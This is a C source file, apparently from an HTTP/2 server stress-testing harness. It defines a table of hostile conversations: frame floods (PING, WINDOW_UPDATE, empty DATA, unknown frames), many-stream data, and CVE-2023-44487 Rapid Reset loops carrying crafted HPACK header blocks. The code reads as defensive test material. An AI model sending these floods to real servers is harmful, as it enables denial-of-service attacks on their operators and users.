/* SPDX-License-Identifier: GPL-2.0-or-later */
/* HTTP/2 made to cost as much as it can: frames that carry little, blocks that mean much. */
#include "conversation.h"
#include "write.h"

#include <netinet/in.h>

enum {
	ROOM = 60 * 1024,
	N_STREAMS = 90, /* open at once */
};

/* GET http, the authority a, path /p; then the same by index. */
static const char whole[] = "\x82\x86\x41\x01"
			    "a\x44\x02/p";
static const char by_index[] = "\x82\x86\xbf\xbe";

static const uint8_t given_up[] = {0, 0, 0, 8}; /* CANCEL */

static void ask(uint32_t stream, unsigned flags, struct bytes block)
{
	write_http2_frame(HTTP2_HEADERS, HTTP2_END_HEADERS | flags, stream, block);
}

static void ask_first(struct talk *t, unsigned flags)
{
	http2_opening(t);
	ask(1, flags, bytes_of(whole, sizeof(whole) - 1));
}

static void give_up(uint32_t stream)
{
	write_http2_frame(HTTP2_RST_STREAM, 0, stream, bytes_of(given_up, sizeof(given_up)));
}

static void frames_of(struct talk *t, enum http2_frame type, const char *payload, size_t n)
{
	http2_opening(t);
	while (written.n < ROOM)
		write_http2_frame(type, 0, 0, bytes_of(payload, n));
	write_turn(t, DIS_TO_SERVER);
}

static void pings(struct talk *t, const struct conversation *c)
{
	(void)c;
	frames_of(t, HTTP2_PING, "\0\0\0\0\0\0\0", 8);
}

/* So small that all of them together stay below 2^31 - 1. */
static void windows(struct talk *t, const struct conversation *c)
{
	(void)c;
	frames_of(t, HTTP2_WINDOW_UPDATE, "\0\0\0\1", 4);
}

static void unknown(struct talk *t, const struct conversation *c)
{
	(void)c;
	frames_of(t, HTTP2_UNKNOWN, "", 0);
}

static void empty_data(struct talk *t, const struct conversation *c)
{
	(void)c;
	ask_first(t, 0);
	while (written.n < ROOM)
		write_http2_frame(HTTP2_DATA, 0, 1, bytes_of("", 0));
	write_turn(t, DIS_TO_SERVER);
}

static void many_streams(struct talk *t, const struct conversation *c)
{
	(void)c;
	ask_first(t, 0);
	for (uint32_t i = 1; i < N_STREAMS; i++)
		ask(2 * i + 1, 0, bytes_of(by_index, sizeof(by_index) - 1));
	for (uint32_t i = 0; written.n < ROOM; i += 7)
		write_http2_frame(HTTP2_DATA, 0, 2 * (i % N_STREAMS) + 1, bytes_of("x", 1));
	write_turn(t, DIS_TO_SERVER);
}

/* CVE-2023-44487: asked for with this block, and given up at once, again and again. */
static void resets(struct talk *t, struct bytes block)
{
	for (uint32_t stream = 3; written.n < ROOM; stream += 2) {
		ask(stream, HTTP2_END_STREAM, block);
		give_up(stream);
	}
	write_turn(t, DIS_TO_SERVER);
}

static void rapid_reset(struct talk *t, const struct conversation *c)
{
	(void)c;
	ask_first(t, HTTP2_END_STREAM);
	resets(t, bytes_of(by_index, sizeof(by_index) - 1));
}

/* Behind the usual fields this one, as often as it fits into `size`. */
static void blocks_of(struct talk *t, struct bytes field, size_t size)
{
	static uint8_t block[4096];
	size_t n = sizeof(by_index) - 1;
	memcpy(block, by_index, n);
	for (; n + field.n <= size; n += field.n)
		memcpy(block + n, field.p, field.n);
	ask_first(t, HTTP2_END_STREAM);
	resets(t, bytes_of(block, n));
}

static void small_fields(struct talk *t, const struct conversation *c)
{
	(void)c;
	blocks_of(t, bytes_of("\0\1x\0", 4), 380);
}

static void known_fields(struct talk *t, const struct conversation *c)
{
	(void)c;
	blocks_of(t, bytes_of("\x90", 1), 90); /* accept-encoding of the static table */
}

/* Twenty bits a letter. */
static void long_codes(struct talk *t, const struct conversation *c)
{
	static uint8_t field[4 + 125] = {0, 1, 'x', 0x80 | 125};
	(void)c;
	for (size_t i = 0; i < 125; i++)
		field[4 + i] = (uint8_t) "\xff\xfe\x6f\xff\xe6"[i % 5];
	blocks_of(t, bytes_of(field, sizeof(field)), 3800);
}

/* Each pushes another entry out of the table. */
static void small_entries(struct talk *t, const struct conversation *c)
{
	static uint8_t block[4 + 2 + 4 * 80] = "\x82\x86\x01\1a\x04\2/p";
	size_t n = 9;
	(void)c;
	for (; n + 4 <= sizeof(block); n += 4)
		memcpy(block + n, "\x40\1x\0", 4);
	ask_first(t, HTTP2_END_STREAM);
	resets(t, bytes_of(block, n));
}

/* A field of 3,000 bytes in the table, named by its index. */
static void long_field(struct talk *t, const struct conversation *c)
{
	static uint8_t block[9 + 4 + 3000] = "\x82\x86\x41\1a\x44\2/p\x60\x7f\xb9\x16";
	(void)c;
	memset(block + 13, 'c', sizeof(block) - 13);
	http2_opening(t);
	ask(1, HTTP2_END_STREAM, bytes_of(block, sizeof(block)));
	resets(t, bytes_of("\x82\x86\xbf\xc0\xbe\xbe\xbe\xbe\xbe\xbe\xbe\xbe", 12));
}

/* A path of 1,000 bytes, plain, named by its index. */
static void long_path(struct talk *t, const struct conversation *c)
{
	static uint8_t block[5 + 4 + 1000] = "\x82\x86\x41\1a\x44\x7f\xe9\x06";
	(void)c;
	memset(block + 9, 'p', sizeof(block) - 9);
	block[9] = '/';
	http2_opening(t);
	ask(1, HTTP2_END_STREAM, bytes_of(block, sizeof(block)));
	resets(t, bytes_of(by_index, sizeof(by_index) - 1));
}

/* clang-format off */
const struct conversation hostile_http2[] = {
	{"http2", "pings", NULL, 0, pings, {0}, IPPROTO_TCP, 0},
	{"http2", "windows that grow by one", NULL, 0, windows, {0}, IPPROTO_TCP, 0},
	{"http2", "unknown frames of nothing", NULL, 0, unknown, {0}, IPPROTO_TCP, 0},
	{"http2", "data of nothing", NULL, 0, empty_data, {0}, IPPROTO_TCP, 0},
	{"http2", "data of one byte on 90 streams", NULL, 0, many_streams, {0}, IPPROTO_TCP, 0},
	{"http2", "requests by index, given up", NULL, 0, rapid_reset, {0}, IPPROTO_TCP, 0},
	{"http2", "fields of one letter", NULL, 0, small_fields, {0}, IPPROTO_TCP, 0},
	{"http2", "fields of one byte", NULL, 0, known_fields, {0}, IPPROTO_TCP, 0},
	{"http2", "the longest codes of Huffman", NULL, 0, long_codes, {0}, IPPROTO_TCP, 0},
	{"http2", "entries that push others out", NULL, 0, small_entries, {0}, IPPROTO_TCP, 0},
	{"http2", "a field of 3,000 bytes by index", NULL, 0, long_field, {0}, IPPROTO_TCP, 0},
	{"http2", "a path of 1,000 bytes by index", NULL, 0, long_path, {0}, IPPROTO_TCP, 16},
};
/* clang-format on */
const size_t n_hostile_http2 = sizeof(hostile_http2) / sizeof(hostile_http2[0]);
